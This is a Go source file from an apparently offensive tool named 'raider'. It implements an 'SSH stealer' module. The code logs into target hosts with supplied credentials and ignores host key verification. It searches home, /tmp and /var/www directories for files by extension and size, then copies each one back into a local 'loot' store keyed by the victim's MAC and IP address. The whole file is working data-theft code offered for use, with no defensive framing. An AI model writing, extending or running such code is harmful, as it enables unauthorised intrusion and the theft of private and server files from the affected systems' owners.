package steal

import (
	"context"
	"fmt"
	"strings"
	"time"

	"raider/internal/core/loot"
	"raider/internal/core/model"
	"raider/internal/pkg/logger"

	"golang.org/x/crypto/ssh"
)

// SSHStealer SSH 文件窃取器
// 远端 find 定位目标文件，再逐个 cat 回来，不依赖 sftp 子系统
type SSHStealer struct {
	files  *loot.FileStore
	limits Limits
}

func NewSSHStealer(files *loot.FileStore, limits Limits) *SSHStealer {
	return &SSHStealer{files: files, limits: limits}
}

func (s *SSHStealer) Protocol() string {
	return "ssh"
}

func (s *SSHStealer) Steal(ctx context.Context, target *model.Target, port int, cred model.CredentialRecord) (int, error) {
	config := &ssh.ClientConfig{
		User:            cred.Username,
		Auth:            []ssh.AuthMethod{ssh.Password(cred.Password)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Timeout:         10 * time.Second,
	}

	client, err := ssh.Dial("tcp", fmt.Sprintf("%s:%d", target.IP, port), config)
	if err != nil {
		return 0, fmt.Errorf("ssh dial failed: %w", err)
	}
	defer client.Close()

	paths, err := s.findFiles(client)
	if err != nil {
		return 0, err
	}

	grabbed := 0
	for _, remote := range paths {
		select {
		case <-ctx.Done():
			return grabbed, ctx.Err()
		default:
		}
		if s.limits.MaxFilesPerHost > 0 && grabbed >= s.limits.MaxFilesPerHost {
			break
		}

		session, err := client.NewSession()
		if err != nil {
			return grabbed, fmt.Errorf("ssh session failed: %w", err)
		}
		data, err := session.Output(fmt.Sprintf("cat %s", shellQuote(remote)))
		session.Close()
		if err != nil {
			logger.Debugf("ssh cat %s failed on %s: %v", remote, target.IP, err)
			continue
		}
		if !s.limits.SizeOK(int64(len(data))) {
			continue
		}

		local, err := s.files.Save("ssh", target.MAC, target.IP, remote, strings.NewReader(string(data)))
		if err != nil {
			logger.Warnf("ssh loot save failed for %s: %v", remote, err)
			continue
		}
		logger.Infof("ssh loot %s -> %s", remote, local)
		grabbed++
	}
	return grabbed, nil
}

// findFiles 远端 find，按扩展名和大小过滤
// 只搜家目录和常见数据目录，全盘 find 在低端设备上太慢
func (s *SSHStealer) findFiles(client *ssh.Client) ([]string, error) {
	session, err := client.NewSession()
	if err != nil {
		return nil, fmt.Errorf("ssh session failed: %w", err)
	}
	defer session.Close()

	var nameClauses []string
	for _, ext := range s.limits.Extensions {
		nameClauses = append(nameClauses, fmt.Sprintf("-name '*%s'", ext))
	}
	nameExpr := ""
	if len(nameClauses) > 0 {
		nameExpr = fmt.Sprintf("\\( %s \\)", strings.Join(nameClauses, " -o "))
	}
	sizeExpr := ""
	if s.limits.MaxFileSize > 0 {
		sizeExpr = fmt.Sprintf("-size -%dc", s.limits.MaxFileSize+1)
	}
	limit := s.limits.MaxFilesPerHost
	if limit <= 0 {
		limit = 100
	}

	cmd := fmt.Sprintf("find $HOME /home /tmp /var/www -type f %s %s 2>/dev/null | head -n %d",
		nameExpr, sizeExpr, limit)
	output, err := session.Output(cmd)
	if err != nil && len(output) == 0 {
		return nil, fmt.Errorf("remote find failed: %w", err)
	}

	var paths []string
	for _, line := range strings.Split(string(output), "\n") {
		line = strings.TrimSpace(line)
		if line != "" {
			paths = append(paths, line)
		}
	}
	return paths, nil
}

// shellQuote 单引号包裹，内部单引号转义
func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}
